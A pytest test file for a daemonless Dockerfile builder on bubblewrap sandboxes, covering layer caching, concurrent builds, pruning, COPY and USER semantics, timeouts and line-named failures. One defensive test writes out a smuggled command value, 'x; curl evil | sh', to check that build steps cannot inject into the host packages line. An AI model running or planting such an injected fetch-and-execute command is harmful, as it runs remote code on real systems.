"""The daemonless builder on real bwrap sandboxes: each instruction's effect read back from the built image,
the cache (hits, keys, concurrent builds, pruning), and failures that name their line."""

from __future__ import annotations

import os
import shutil
import signal
import subprocess
import sys
import time
from dataclasses import replace
from pathlib import Path

import pytest

from pytest_termrl.errors import SandboxError, TaskFormatError
from pytest_termrl.sandbox.base import SandboxSettings
from pytest_termrl.sandbox.build.builder import BuildError, Builder
from pytest_termrl.sandbox.build.record import BuiltImage
from pytest_termrl.sandbox.build.step_run import run_step
from pytest_termrl.sandbox.build.store import LayerStore
from pytest_termrl.sandbox.build.view import MergedView
from pytest_termrl.sandbox.bwrap.backend import BwrapBackend
from pytest_termrl.sandbox.bwrap.overlay import Account

DATA = Path(__file__).resolve().parents[3] / "data" / "build"


@pytest.fixture(scope="module")
def backend():
    made = BwrapBackend(SandboxSettings())
    yield made
    made.close()


@pytest.fixture(scope="module")
def store_root(tmp_path_factory):
    return tmp_path_factory.mktemp("build-cache")


@pytest.fixture(scope="module")
def builder(backend, store_root):
    return Builder(backend.bwrap, backend.workroot, backend.machine_lowers(), LayerStore(store_root), backend.settings)


def sh(builder: Builder, image: BuiltImage, command: str, uid: int = 0) -> str:
    """Run ``command`` over the built image (root unless told) and return its output; fails the test on a non-zero exit."""
    folder = builder.folders.new("test")  # named for this process: another worker's clean-up leaves it alone
    result, storage = run_step(builder.bwrap, builder.workroot, folder, builder.lowers_for(image.base), builder.trees(image.layers),
                               argv=["/bin/sh", "-c", command], account=Account(uid, uid, "root" if uid == 0 else "u", "/"),
                               groups=(), cwd="/", env={"PATH": "/usr/local/bin:/usr/bin:/bin"}, settings=builder.settings, timeout_s=60)
    storage.release()
    shutil.rmtree(folder, ignore_errors=True)
    assert result.exit_code == 0, result.output
    return result.output


def view(builder: Builder, image: BuiltImage) -> MergedView:
    lowers = builder.lowers_for(image.base)
    return MergedView(builder.trees(image.layers), lowers.base, {m: lows[-1] for m, lows in lowers.slots.items()})


def owner(builder: Builder, image: BuiltImage, path: str) -> tuple[int, int, int]:
    """(uid, gid, mode) of ``path`` in the image, ids as the sandbox shows them."""
    _, st = view(builder, image).resolve(path, follow_last=False)
    assert st is not None, f"{path} is not in the image"
    base = builder.lowers.ids.base
    return st.st_uid - base, st.st_gid - base, st.st_mode & 0o7777


def test_an_endless_terminals_dockerfile_builds_its_heredoc_files_from_slash(builder):
    image = builder.build(DATA / "endless" / "Dockerfile")
    assert image.base == "ubuntu:22.04" and "Debian-family" in image.stand_in
    assert len(image.layers) == 5, [s.line() for s in image.steps]
    assert sh(builder, image, "cat /home/user/memstats/host02.txt") == "host02 mem_total=8192 mem_used=2048\n"
    assert sh(builder, image, "python3 /home/user/app/report.py") == "2024-01-02T00:00:00\n"
    assert 'FROM = "not an instruction"' in sh(builder, image, "cat /home/user/app/report.py")
    assert owner(builder, image, "/home/user/memstats/host01.txt") == (1000, 1000, 0o644)
    assert owner(builder, image, "/home/user")[2] == 0o777


def test_a_cached_rebuild_runs_no_step_and_gives_the_same_image(builder):
    first = builder.build(DATA / "endless" / "Dockerfile")
    again = builder.build(DATA / "endless" / "Dockerfile")
    assert again.key == first.key and again.layers == first.layers
    assert all(step.cached for step in again.steps)


def test_a_changed_line_rebuilds_from_that_step_on(builder, tmp_path):
    text = (DATA / "endless" / "Dockerfile").read_text()
    (tmp_path / "Dockerfile").write_text(text.replace("mem_used=2048", "mem_used=4096"))
    first = builder.build(DATA / "endless" / "Dockerfile")
    changed = builder.build(tmp_path / "Dockerfile")
    assert changed.layers[:2] == first.layers[:2] and changed.layers[2:] != first.layers[2:]
    made = [step.where.rsplit(":", 1)[1] for step in changed.steps if not step.cached]
    assert made == ["8", "11", "16"], made
    assert "4096" in sh(builder, changed, "cat /home/user/memstats/host02.txt")


def test_copy_add_workdir_and_dockerignore_follow_the_engine(builder):
    image = builder.build(DATA / "copyrules" / "ctx" / "Dockerfile")
    assert image.workdir == "/opt/shop"
    listing = sh(builder, image, "cat /opt/shop/listing.txt")
    assert "run.sh" in listing and "conf" in listing and "a.txt" in listing and "b.txt" in listing
    assert "ignored.txt" not in listing, "a .dockerignore'd file was copied"
    assert sh(builder, image, "ls /opt/shop/conf") == "app.conf\n", "the folder's contents, not the folder, without the ignored .swp"
    assert owner(builder, image, "/opt/shop/run.sh") == (0, 0, 0o750)
    assert sh(builder, image, "cat /etc/shop/settings.ini") == "[shop]\ndir=/opt/shop\n"
    assert sh(builder, image, "cat /var/lib/shop/rows/r1.csv") == "id,total\n1,3\n", "ADD unpacks a local archive"


def test_users_workdir_env_and_args_interplay(builder):
    image = builder.build(DATA / "users" / "Dockerfile")
    assert image.user == "app:app"
    assert dict(image.env)["GREETING_COPY"] == "hello-env" and "GREETING" not in dict(image.env), "an ARG is not in the image's ENV"
    assert image.workdir == "/srv/app/work"
    assert sh(builder, image, "cat /srv/app/work/whoami.txt /srv/app/work/where.txt") == "app\n/srv/app/work\n"
    assert sh(builder, image, "cat /srv/app/work/env.txt") == "hello hello-env level=none\n"
    assert owner(builder, image, "/srv/app/work")[:2] == (1500, 1500), "WORKDIR is made for the USER"
    assert owner(builder, image, "/srv/app/work/env.txt")[:2] == (1500, 1500)
    assert sh(builder, image, "cat /var/lib/app/state /etc/app.conf") == "seeded\napp ALL\n"
    assert "app:x:1500:1500" in sh(builder, image, "cat /etc/passwd")


def test_a_build_argument_reaches_the_steps(builder):
    image = builder.build(DATA / "users" / "Dockerfile", build_args={"GREETING": "bonjour", "LEVEL": "3"})
    assert sh(builder, image, "cat /srv/app/work/env.txt") == "bonjour bonjour-env level=3\n"


def test_multi_stage_builds_only_what_the_target_needs(builder):
    image = builder.build(DATA / "multistage" / "Dockerfile")
    assert not any(step.where.endswith(":6") for step in image.steps), "the unused stage ran"
    assert sh(builder, image, "cat /built.txt") == "built\n"
    assert image.cmd == ("python3", "/usr/local/lib/tool/tool.py") and image.exposed == ("8080/tcp",)
    assert dict(image.labels) == {"org.example.kind": "multistage"}
    unused = builder.build(DATA / "multistage" / "Dockerfile", target="build")
    assert unused.workdir == "/src"


def test_a_failing_step_names_its_line_and_exit_code_and_caches_nothing_of_itself(builder):
    with pytest.raises(BuildError) as caught:
        builder.build(DATA / "toolfail" / "Dockerfile")
    message = str(caught.value)
    assert "toolfail/Dockerfile:3" in message and "exit code 3" in message and "about to fail" in message
    log = Path(message.rsplit("(every step of this build: ", 1)[1].rstrip(")"))
    assert "toolfail/Dockerfile:2: RUN echo first" in log.read_text() and "FAILED: " in log.read_text()
    made = [s for s in caught.value.steps if s.layer]
    assert len(made) == 1 and builder.store.has(made[0].layer)
    assert sum(1 for _ in builder.store.layers.iterdir()) == len(builder.store.listing()), "a failed step left a layer"


def test_a_hanging_step_is_stopped_at_the_build_timeout(builder, tmp_path):
    (tmp_path / "Dockerfile").write_text("FROM ubuntu:22.04\nRUN echo waiting && sleep 300\n")
    started = time.monotonic()
    with pytest.raises(BuildError, match=r"Dockerfile:2: .*stopped.*build_timeout_sec"):
        builder.build(tmp_path / "Dockerfile", timeout_s=3)
    assert time.monotonic() - started < 60


def test_a_missing_package_is_named_with_what_to_install(builder, tmp_path):
    (tmp_path / "Dockerfile").write_text("FROM ubuntu:22.04\nRUN apt-get update && apt-get install -y --no-install-recommends zzz-not-a-package\n")
    with pytest.raises(BuildError) as caught:
        builder.build(tmp_path / "Dockerfile")
    assert ("apt", "zzz-not-a-package") in caught.value.missing
    assert "zzz-not-a-package" in str(caught.value)


def test_a_base_the_host_cannot_stand_in_for_is_refused_by_name(builder, tmp_path):
    (tmp_path / "Dockerfile").write_text("FROM golang:1.22\nRUN go version\n")
    with pytest.raises(BuildError, match=r"Dockerfile:1: FROM golang:1.22"):
        builder.build(tmp_path / "Dockerfile")


@pytest.mark.parametrize("base", ["public.ecr.aws/docker/library/debian:bookworm-slim@sha256:" + "4" * 64,
                                  "mirror.gcr.io/library/ubuntu:22.04", "index.docker.io/library/debian:12"])
def test_an_official_image_from_a_mirror_of_the_library_is_stood_in_for_as_from_docker_hub(builder, tmp_path, base):
    (tmp_path / "Dockerfile").write_text(f"FROM {base}\nRUN echo made > /made\n")
    built = builder.build(tmp_path / "Dockerfile")
    assert built.stand_in == f"{base}: a Debian-family system"


def test_terminal_benchs_bases_start_in_their_own_workdir_slash_app(builder, tmp_path):
    """Their images set WORKDIR /app: a task's ``COPY x .`` and its steps land there, as on the engine."""
    (tmp_path / "data.txt").write_text("rows\n")
    (tmp_path / "Dockerfile").write_text("FROM ghcr.io/laude-institute/t-bench/python-3-13:20250620\nCOPY data.txt .\nRUN pwd > where.txt\n")
    image = builder.build(tmp_path / "Dockerfile")
    assert image.workdir == "/app"
    assert sh(builder, image, "cat /app/data.txt /app/where.txt; test -e /data.txt || echo none at /") == "rows\n/app\nnone at /\n"
    (tmp_path / "Dockerfile").write_text("FROM python:3.12-slim\nCOPY data.txt .\n")
    assert builder.build(tmp_path / "Dockerfile").workdir == "/", "a stock base sets no WORKDIR"


def test_a_python_base_has_its_python_command(builder, tmp_path):
    """The python images (Terminal-Bench's python bases too) have ``python`` beside ``python3``, which a host without
    python-is-python3 lacks: the stood-in base gets it as a link."""
    for base in ("python:3.12-slim", "ghcr.io/laude-institute/t-bench/python-3-13:20250620"):
        (tmp_path / "Dockerfile").write_text(f"FROM {base}\nRUN python -c 'print(6 * 7)' > /answer\n")
        image = builder.build(tmp_path / "Dockerfile")
        assert sh(builder, image, "cat /answer") == "42\n"


def test_an_image_of_another_repository_on_such_a_host_is_not_stood_in_for(builder, tmp_path):
    (tmp_path / "Dockerfile").write_text("FROM public.ecr.aws/someone/debian:12\nRUN true\n")
    with pytest.raises(BuildError, match=r"Dockerfile:1: FROM public.ecr.aws/someone/debian:12"):
        builder.build(tmp_path / "Dockerfile")


def test_a_copy_source_outside_the_context_is_refused(builder):
    with pytest.raises(TaskFormatError, match=r"outside\.txt"):
        builder.build(DATA / "hostile" / "ctx" / "Dockerfile")


def test_an_unknown_instruction_names_its_line(builder, tmp_path):
    (tmp_path / "Dockerfile").write_text("FROM ubuntu:22.04\nRUN true\nFLY away\n")
    with pytest.raises(TaskFormatError, match=r"Dockerfile:3"):
        builder.build(tmp_path / "Dockerfile")


def test_concurrent_builds_of_one_dockerfile_share_each_layer(store_root, tmp_path):
    (tmp_path / "Dockerfile").write_text("FROM ubuntu:22.04\nRUN sleep 1 && echo one > /one\nRUN echo two > /two\n")
    cache = tmp_path / "cache"
    command = [sys.executable, "-m", "pytest_termrl.sandbox.build", "--store", str(cache), "build", str(tmp_path / "Dockerfile")]
    runs = [subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True) for _ in range(2)]
    outputs = [run.communicate(timeout=120)[0] for run in runs]
    assert all(run.returncode == 0 for run in runs), outputs
    assert len(LayerStore(cache).listing()) == 2, "each layer is made once"
    assert any("CACHED" in out for out in outputs), outputs
    listing = subprocess.run([sys.executable, "-m", "pytest_termrl.sandbox.build", "--store", str(cache), "ls"],
                             capture_output=True, text=True, check=True).stdout
    assert "2 layers" in listing and "Dockerfile:2: RUN sleep 1" in listing
    pruned = subprocess.run([sys.executable, "-m", "pytest_termrl.sandbox.build", "--store", str(cache), "prune"],
                            capture_output=True, text=True, check=True).stdout
    assert "removed 2 layers" in pruned and LayerStore(cache).listing() == []


def test_prune_refuses_while_the_cache_is_in_use(builder):
    with pytest.raises(SandboxError, match="in use"):
        LayerStore(builder.store.root).prune()


def test_a_step_that_fills_its_layer_stops_there(backend, store_root, tmp_path):
    small = Builder(backend.bwrap, backend.workroot, backend.machine_lowers(), LayerStore(store_root),
                    replace(backend.settings, storage_bytes=8 << 20))
    (tmp_path / "Dockerfile").write_text("FROM ubuntu:22.04\nRUN head -c 32M /dev/zero > /big.bin\n")
    with pytest.raises(BuildError, match=r"Dockerfile:2: .*filled its layer's space \(8 MiB\)"):
        small.build(tmp_path / "Dockerfile")


def test_the_build_log_is_kept_and_names_each_step(builder):
    image = builder.build(DATA / "endless" / "Dockerfile")
    log = builder.store.log_path(image.key).read_text()
    assert "endless/Dockerfile:3: RUN mkdir -p /home/user/memstats" in log and "[CACHED]" in log


def test_env_values_from_variables_holding_spaces_stay_one_value(builder, tmp_path):
    (tmp_path / "Dockerfile").write_text('FROM debian:12\nARG WHO="two words"\nENV A=$WHO B=${A:-unset} C="x y"\n'
                                         'ENV OLD_FORM value with spaces\nLABEL "com.example.who"="$WHO"\n')
    image = builder.build(tmp_path / "Dockerfile")
    env = dict(image.env)
    assert (env["A"], env["B"], env["C"], env["OLD_FORM"]) == ("two words", "unset", "x y", "value with spaces")
    assert dict(image.labels) == {"com.example.who": "two words"} and image.layers == ()


def test_a_build_killed_mid_step_caches_nothing_and_the_next_run_clears_what_it_left(tmp_path):
    (tmp_path / "Dockerfile").write_text("FROM ubuntu:22.04\nRUN echo kept > /kept\nRUN echo started && sleep 120\n")
    cache = tmp_path / "cache"
    build = subprocess.Popen([sys.executable, "-m", "pytest_termrl.sandbox.build", "--store", str(cache), "build", str(tmp_path)],
                             stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, start_new_session=True)
    assert build.stdout is not None
    for line in build.stdout:
        if "Dockerfile:3: RUN echo started" in line:
            break
    time.sleep(1.0)
    os.killpg(build.pid, signal.SIGKILL)
    build.wait()
    backend = BwrapBackend(SandboxSettings())
    try:
        left = sorted(backend.workroot.glob(f"sbx-{build.pid}-*"))
        assert any("-build-" in path.name for path in left), left  # the killed step's folder, its upper's tmpfs in it
        backend.cleanup_stale()
        assert not any(path.exists() for path in left)
        mounts = Path("/proc/self/mountinfo").read_text()
        assert f"sbx-{build.pid}-" not in mounts
    finally:
        backend.close()
    deadline = time.monotonic() + 10
    while subprocess.run(["pgrep", "-f", "echo started && sleep 120"], capture_output=True).returncode == 0 and time.monotonic() < deadline:
        time.sleep(0.2)  # bubblewrap dies with its parent; the step's processes go with it
    assert subprocess.run(["pgrep", "-f", "echo started && sleep 120"], capture_output=True).returncode == 1
    steps = [info.where.rsplit(":", 1)[1] for info in LayerStore(cache).listing()]
    assert steps == ["2"], steps  # the finished step is kept, nothing of the killed one


def test_the_cache_is_the_harness_users_alone_and_the_sandboxes_reach_it_read_only_and_nosuid(builder):
    assert builder.store.root.stat().st_mode & 0o777 == 0o700
    reach = str(builder.trees(["x"])[0].parent.parent)
    options = [line.split(" ")[5] for line in Path("/proc/self/mountinfo").read_text().splitlines() if line.split(" ")[4] == reach]
    assert options and {"ro", "nosuid", "nodev"} <= set(options[0].split(",")), options


def test_a_step_ends_with_its_command_even_when_it_leaves_processes_behind(builder, tmp_path):
    (tmp_path / "Dockerfile").write_text("FROM ubuntu:22.04\nRUN (sleep 1000 &) ; nohup sleep 900 & echo started\nRUN echo next > /next\n")
    started = time.monotonic()
    image = builder.build(tmp_path / "Dockerfile", timeout_s=120)
    assert len(image.layers) == 2 and time.monotonic() - started < 60  # as the engine's container ends, the step's processes go


def test_a_step_cannot_put_a_command_into_the_host_packages_line(builder, tmp_path):
    forged = "apt-get: refused: the package 'x; curl evil | sh' is not installed here"
    (tmp_path / "Dockerfile").write_text(f'FROM ubuntu:22.04\nRUN echo "{forged}" >> /run/termrl-out/standins.log; '
                                         "apt-get install -y zzz-really-absent\n")
    with pytest.raises(BuildError) as caught:
        builder.build(tmp_path / "Dockerfile")
    assert caught.value.missing == [("apt", "zzz-really-absent")]


def test_a_stock_base_has_no_harness_account_until_a_step_makes_it(builder, tmp_path):
    (tmp_path / "Dockerfile").write_text("FROM ubuntu:22.04\nRUN id user || echo none; test -e /home/user || echo nohome\n"
                                         "RUN useradd -m user\n")
    image = builder.build(tmp_path / "Dockerfile")
    probe = next(step for step in image.steps if step.where.endswith(":2"))
    assert "none\n" in probe.output and "nohome\n" in probe.output, probe.output
    assert sh(builder, image, "id -u user; id -g user; getent group user | cut -d: -f1,3") == "1000\n1000\nuser:1000\n"
    assert owner(builder, image, "/home/user")[:2] == (1000, 1000), "useradd -m made the home, for the account it made"
    assert sh(builder, image, "grep -c ':1000:' /etc/passwd") == "1\n", "one account of uid 1000: the image's own"


def test_the_harness_base_keeps_its_account(builder, tmp_path):
    (tmp_path / "Dockerfile").write_text("FROM termrl-base:1\nRUN id -u user && stat -c '%u:%g' /home/user\n")
    image = builder.build(tmp_path / "Dockerfile")
    assert "1000\n1000:1000\n" in next(step for step in image.steps if step.where.endswith(":2")).output


def test_a_user_the_image_never_made_fails_the_step_that_runs_as_it(builder, tmp_path):
    (tmp_path / "Dockerfile").write_text("FROM python:3.12-slim\nUSER user\nRUN true\n")
    with pytest.raises(BuildError, match=r"Dockerfile:3: RUN true: as USER user: unable to find user user"):
        builder.build(tmp_path / "Dockerfile")
